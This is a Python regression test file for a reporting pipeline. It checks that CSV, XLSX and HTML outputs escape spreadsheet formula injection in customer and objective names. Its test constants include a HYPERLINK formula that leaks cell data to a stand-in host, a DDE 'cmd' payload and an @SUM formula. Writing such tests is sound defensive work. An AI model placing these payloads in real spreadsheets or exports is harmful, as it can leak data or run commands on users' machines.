"""Formula-safe CSV: text a spreadsheet would run as a formula is published as text.

Regression test for issue 11, point 4: customer or objective names such as
``=HYPERLINK("http://x.example/?leak="&A1,"click")`` were written unescaped as the first
characters of cells in ``credits.csv`` and ``compliance.csv``. OWASP's rule: a text cell that
begins with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a single quote in front.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest
from reliability_data import small_case

from orchestration.lib.publish.writers import write_csv

LEAKING_CUSTOMER = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
DDE_NAME = "+cmd|' /C calc'!A0"
SUM_NAME = "@SUM(1)+1"
# the landing rows (reliability_data.LANDING): acme's P1 first response in March is 1 of 2 =
# 50.0 % against a target of 95 -> breached, margin 50 - 95 = -45.0000


def _hostile_definitions(definitions: Path) -> None:
    acme = definitions / "agreements" / "acme-hosting.yaml"
    text = acme.read_text(encoding="utf-8")
    replacements = [
        ("customer: ACME Corp", f"customer: '{LEAKING_CUSTOMER}'"),
        ("      - id: availability\n", f'      - id: availability\n        name: "{DDE_NAME}"\n'),
        (
            "      - id: p1-first-response\n",
            f'      - id: p1-first-response\n        name: "{SUM_NAME}"\n',
        ),
    ]
    for old, new in replacements:
        assert old in text, old
        text = text.replace(old, new, 1)  # version 1 only: the version in force in March
    acme.write_text(text, encoding="utf-8")


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> Path:
    case = small_case(tmp_path_factory.mktemp("formulas"))
    _hostile_definitions(case.paths.definitions_dir)
    outcome = case.run("2026-03")
    assert outcome.success, outcome.reason
    return case.paths.reports_dir


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def _acme(rows: list[dict[str, str]], objective_id: str) -> dict[str, str]:
    [row] = [
        r for r in rows if r["agreement_id"] == "acme-hosting" and r["objective_id"] == objective_id
    ]
    return row


@pytest.mark.slow
def test_credits_csv_prefixes_the_formula_customer(reports: Path):
    rows = _rows(reports / "2026-03" / "latest" / "credits.csv")
    acme = [r for r in rows if r["agreement_id"] == "acme-hosting"]
    assert acme and {r["customer"] for r in acme} == {"'" + LEAKING_CUSTOMER}
    # the file's text: quoted because of the commas and quotes, with the quote inside the field
    raw = (reports / "2026-03" / "latest" / "credits.csv").read_text(encoding="utf-8-sig")
    assert '"\'=HYPERLINK(""http://x.example/?leak=""&A1,""click"")"' in raw
    assert ',"=HYPERLINK(' not in raw and ",=HYPERLINK(" not in raw


@pytest.mark.slow
def test_compliance_csv_prefixes_customer_and_objective_names(reports: Path):
    rows = _rows(reports / "2026-03" / "latest" / "compliance.csv")
    availability = _acme(rows, "availability")
    first_response = _acme(rows, "p1-first-response")
    assert availability["customer"] == "'" + LEAKING_CUSTOMER
    assert availability["objective_name"] == "'+cmd|' /C calc'!A0"
    assert first_response["objective_name"] == "'@SUM(1)+1"
    # numbers are untouched: a negative margin stays a number (50.0 - 95.0 = -45.0000)
    assert first_response["margin"] == "-45.0000"
    assert first_response["actual"] == "50.0000"
    # text that does not start a formula is written as it is
    assert first_response["objective_id"] == "p1-first-response"


@pytest.mark.slow
def test_xlsx_stores_the_names_as_text_not_formulas(reports: Path):
    sheet = openpyxl.load_workbook(reports / "2026-03" / "latest" / "credits.xlsx")["credits"]
    header = [cell.value for cell in sheet[1]]
    customers = [
        sheet.cell(row, header.index("customer") + 1) for row in range(2, sheet.max_row + 1)
    ]
    acme = [cell for cell in customers if cell.value == LEAKING_CUSTOMER]
    assert acme and all(cell.data_type == "s" for cell in acme)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.slow
def test_review_pack_html_shows_the_names_escaped(reports: Path):
    html = (reports / "2026-03" / "latest" / "review_packs" / "acme-hosting.html").read_text(
        encoding="utf-8"
    )
    # Jinja's autoescape: quotes and the ampersand are entities, so no attribute or link forms
    assert "=HYPERLINK(&#34;http://x.example/?leak=&#34;&amp;A1,&#34;click&#34;)" in html
    assert LEAKING_CUSTOMER not in html


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_every_owasp_trigger_is_prefixed_and_numbers_are_not(tmp_path, trigger):
    table = pa.table(
        {
            "name": [f"{trigger}1+1", "plain", None, f"a{trigger}b"],
            "amount": pa.array([Decimal("-5.00")] * 4, pa.decimal128(18, 2)),
            "count": pa.array([-3] * 4, pa.int64()),
        }
    )
    write_csv(table, tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert rows == [
        ["name", "amount", "count"],
        [f"'{trigger}1+1", "-5.00", "-3"],
        ["plain", "-5.00", "-3"],
        ["", "-5.00", "-3"],
        [f"a{trigger}b", "-5.00", "-3"],
    ]
